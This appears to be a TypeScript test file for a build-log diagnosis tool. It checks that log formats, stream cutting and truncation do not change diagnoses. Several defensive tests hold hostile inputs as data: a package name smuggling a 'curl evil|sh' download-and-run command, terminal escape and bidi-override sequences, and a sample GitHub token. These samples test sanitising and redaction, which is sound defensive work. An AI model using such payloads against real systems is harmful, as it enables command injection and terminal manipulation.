import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { diagnose } from '../../../src/troubleshoot/diagnose.ts';
import { diagnoseBytes, expectedLogs, readLog } from './logs.ts';

const plain = expectedLogs
  .map(([name, { code }]) => ({ name, code, text: readLog(name).toString('utf8') }))
  .filter(({ text }) => !text.trimStart().startsWith('{'));

const lines = (change: (line: string, index: number) => string) => (text: string) =>
  text.split('\n').map(change).join('\n');
const at = (index: number) => `2026-11-24T22:${String(index % 60).padStart(2, '0')}:05.123456789Z`;

/** The same log as other programs hand it over. */
const forms: Record<string, (text: string) => string | Uint8Array> = {
  gzip: (text) => gzipSync(text),
  CRLF: (text) => text.replaceAll('\n', '\r\n'),
  'UTF-16 of PowerShell': (text) => Buffer.from(`\ufeff${text}`, 'utf16le'),
  'docker logs -t': lines((line, index) => (line === '' ? line : `${at(index)} ${line}`)),
  'GitHub Actions': lines((line, index) => `${at(index).slice(0, 27)}Z ${line}`),
  'gh run view --log': lines((line, index) => `build\tBuild image\t${at(index)} ${line}`),
  'docker compose': lines((line) => (line === '' ? line : `comfyui-1  | ${line}`)),
  colours: lines((line) => line.replace(/(\w+)( |:)/, '\x1b[1m\x1b[31m$1\x1b[0m$2')),
  'json-file of Docker': lines((line) =>
    line === '' ? line : JSON.stringify({ log: `${line}\n`, stream: 'stderr', time: at(1) }),
  ),
};

describe('forms of a log', () => {
  it.each(Object.entries(forms))('%s changes no diagnosis and no line number', async (_, form) => {
    for (const { name, code, text } of plain) {
      const [before] = await diagnoseBytes(text);
      const [after] = await diagnoseBytes(form(text));
      expect({ name, code: after?.code ?? null }).toEqual({ name, code });
      expect({ name, line: after?.evidence.line }).toEqual({ name, line: before?.evidence.line });
    }
  });

  it('a long good log above and a shell below change no diagnosis', async () => {
    const good = plain.flatMap(({ code, text }) => (code === null ? [text] : [])).join('\n');
    const shell = '\nsome neutral line of a shell'.repeat(600);
    const wrong: string[] = [];
    for (const { name, code, text } of plain) {
      const [first] = await diagnoseBytes(`${good}\n${text}${shell}`);
      if ((first?.code ?? null) !== code) wrong.push(`${name}: ${first?.code}, not ${code}`);
    }
    expect(wrong).toEqual([]);
  });

  it('finds the same however the stream is cut', async () => {
    for (const { name, code, text } of plain.filter((_, index) => index % 5 === 0)) {
      const bytes = Buffer.from(text);
      const pieces: Buffer[] = [];
      for (let from = 0; from < bytes.length; from += 7)
        pieces.push(bytes.subarray(from, from + 7));
      const [first] = await diagnose(pieces);
      expect({ name, code: first?.code ?? null }).toEqual({ name, code });
    }
  });

  it('reads a gzip file that ends early as far as it goes', async () => {
    const noise = Array.from({ length: 40_000 }, (_, i) => `line ${i} ${Math.sin(i)}`).join('\n');
    const whole = gzipSync(`E: Unable to locate package ffmpeg7\n${noise}`);
    const [first] = await diagnoseBytes(whole.subarray(0, whole.length / 2));
    expect(first?.code).toBe('apt-package-missing');
  });

  it('reads a progress bar without a newline in bounded memory', async () => {
    async function* bar() {
      for (let i = 0; i < 200; i++) yield `\r${'#'.repeat(50_000)} ${i}%`;
      yield '\rOSError: [Errno 28] No space left on device\n';
    }
    const [first] = await diagnose(bar());
    expect(first?.code).toMatch(/^disk-full/);
  });

  it('lets nothing through that a terminal would obey', async () => {
    const [first] = await diagnoseBytes(
      '\x1b]0;evil\x07E: Unable to locate package a\u202eb\x1b[2J\n',
    );
    expect(first?.evidence.text).toMatch(/^E: Unable to locate package ab/);
    expect(first?.evidence.text).not.toMatch(/[\x00-\x1f\u202e]/);
  });

  it('shows no token', async () => {
    const [first] = await diagnoseBytes(
      "fatal: Authentication failed for 'https://mia:ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/x/y'\n",
    );
    expect(first?.code).toBe('git-repository-unreadable');
    expect(JSON.stringify(first)).not.toContain('ghp_abcdef');
  });

  it('puts no words of a stranger into a command', async () => {
    const [first] = await diagnoseBytes('E: Unable to locate package x;curl\u2009evil|sh\n');
    const commands = first?.fixes.map(({ command }) => command ?? '') ?? [];
    expect(commands[0]).toBe('apt-get update && apt-get install -y NAME');
  });
});
